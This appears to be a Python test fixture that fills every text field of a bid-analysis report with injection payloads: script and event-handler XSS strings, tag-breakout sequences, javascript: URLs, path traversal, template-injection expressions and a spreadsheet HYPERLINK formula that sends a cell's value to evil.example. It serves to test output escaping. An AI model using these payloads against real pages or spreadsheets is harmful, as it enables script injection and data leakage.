"""A run in which every word from outside tries to be something else."""

from __future__ import annotations

from dataclasses import replace

from analyser.catalogue import Catalogue
from analyser.document import Unread
from analyser.dossier import BillLine, Citation, Contradiction, Pack, Run
from analyser.finding import Assessment, EquipmentLine, Link, Verdict
from tests.report import builders

SCRIPT = "<script>window.hit=1</script><img src=x onerror=window.hit=1>"
ATTRIBUTE = "\"' onmouseover=window.hit=1 x='\""
BREAK = "</style></title></template></textarea><script>window.hit=1</script>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
ADDRESS = 'javascript:window.hit=1 https://example.org/"><script>window.hit=1</script>'
PATH = "../../../outside/<b>.html"
TEMPLATE = "{{ run.__class__ }} {% for x in (1,) %}{x}{% endfor %} {0.__class__}"

ALL = (SCRIPT, ATTRIBUTE, BREAK, FORMULA, ADDRESS, PATH, TEMPLATE)
SOUP = " ".join(ALL)


def bid(path: str) -> Assessment:
    """Return a bid whose every text is hostile."""
    plain = builders.bid(path)
    chain = (Link(SOUP, SOUP, SOUP, SOUP, "recalled"),)
    mentions = tuple(
        replace(
            each,
            mention=replace(each.mention, text=SOUP[:90], chain=chain, alias=SOUP, equipment=SOUP),
            stance_cue=SCRIPT,
            why=(SOUP, FORMULA),
            where=SOUP,
            context=f"before {SOUP} after",
            heading=SOUP,
        )
        for each in plain.mentions
    )
    outcomes = tuple(
        replace(each, title=SOUP, because=SOUP, citation=SOUP, needs=(SOUP,), exceptions=(SOUP,),
                recalled_facts=(SOUP,), declaration=SOUP, changes=(SOUP,), last_evidence_date=SOUP)
        for each in builders.outcomes()
    )  # fmt: skip
    findings = tuple(
        replace(each, name=SOUP, outcomes=outcomes, equipment=(SOUP,)) for each in plain.findings
    )
    return replace(
        plain,
        mentions=mentions,
        findings=findings,
        role_reason=SOUP,
        unread=(Unread(SOUP, SOUP, 2),),
        notes=(SOUP,),
        hints=(SOUP,),
    )


def run(number: int = 1) -> Run:
    """Return a run of `number` hostile tenders."""
    documents = tuple(bid(f"{SOUP[: 200 + index]}/{PATH}{index}") for index in range(number))
    packs = tuple(
        Pack(
            name=PATH if index == 0 else f"{SOUP}{index}",
            documents=(each.path,),
            verdict=Verdict.FLAGGED,
            contradictions=(
                Contradiction(SOUP, SOUP, SOUP, Citation(SOUP, 1, SOUP, SOUP),
                              Citation(SOUP, 1, SOUP, SOUP)),
            ),
            bill=(
                BillLine(each.path, EquipmentLine(1, SOUP, FORMULA, "@SUM(1)", "+1", "-1",
                                                  "unknown", text=SOUP)),
            ),
        )
        for index, each in enumerate(documents)
    )  # fmt: skip
    return builders.run(
        documents=documents,
        packs=packs,
        warnings=(SOUP,),
        canary=SOUP,
        root=SOUP,
        lists_version=SOUP,
        language_model=SOUP,
        settings=((SOUP, SOUP),),
    )


def lists() -> Catalogue:
    """Return vendor lists with hostile entries."""
    plain = builders.catalogue()
    vendors = {key: replace(each, name=SOUP, country=SCRIPT) for key, each in plain.vendors.items()}
    return replace(plain, vendors=vendors)


def decisions(document: Assessment) -> list[dict[str, object]]:
    """Return a decision about the hostile bid, hostile itself."""
    judged = document.mentions[0]
    return [
        {
            "document_sha256": document.sha256,
            "path": document.path,
            "maker": "hikvision",
            "place": {"page": 1, "where": SOUP, "text": judged.mention.text,
                      "context": judged.context},
            "decision": "dismiss",
            "reason": SOUP,
            "person": SOUP,
            "date": SOUP,
            "expires": SOUP,
        }
    ]  # fmt: skip
